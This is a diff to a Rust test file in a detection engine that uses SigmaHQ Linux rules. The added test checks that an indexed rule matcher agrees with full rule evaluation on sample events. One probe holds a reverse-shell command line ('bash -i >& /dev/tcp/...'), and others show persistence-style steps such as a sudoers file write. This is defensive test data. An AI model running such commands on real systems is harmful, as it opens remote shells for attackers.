@@ -170,6 +170,38 @@ fn sigmahq_linux_rules_load() {
                 .map(|r| r.info().id.clone())
                 .collect()
         };
+        // The indexed matcher agrees with evaluating every rule on SigmaHQ's rules too.
+        let probes = [
+            sample_exec_event(&[
+                ("Image", "/usr/bin/bash"),
+                ("CommandLine", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"),
+            ]),
+            sample_exec_event(&[("Image", "/usr/bin/base64"), ("CommandLine", "base64 -d x")]),
+            sample_exec_event(&[
+                ("Image", "/usr/bin/chmod"),
+                ("CommandLine", "chmod +x /tmp/x"),
+            ]),
+            sample_exec_event(&[("Image", "/usr/bin/crontab"), ("CommandLine", "crontab -l")]),
+            sample_event(EventAction::Open, &[("TargetFilename", "/etc/sudoers.d/x")]),
+            sample_event(
+                EventAction::Connect,
+                &[("Image", "/bin/bash"), ("DestinationIp", "8.8.8.8")],
+            ),
+        ];
+        for probe in probes {
+            let event = probe.expect("fields are known");
+            let indexed: Vec<&str> = set
+                .matches(&event)
+                .iter()
+                .map(|r| r.info().id.as_str())
+                .collect();
+            let linear: Vec<&str> = set
+                .rules()
+                .filter(|r| r.matches(&event))
+                .map(|r| r.info().id.as_str())
+                .collect();
+            assert_eq!(indexed, linear, "index and full evaluation disagree");
+        }
         let interactive = fired(&[("Image", "/usr/bin/bash"), ("CommandLine", "bash -i >& x")]);
         assert!(
             interactive.contains(&"6104e693-a7d6-4891-86cb-49a258523559".to_owned()),
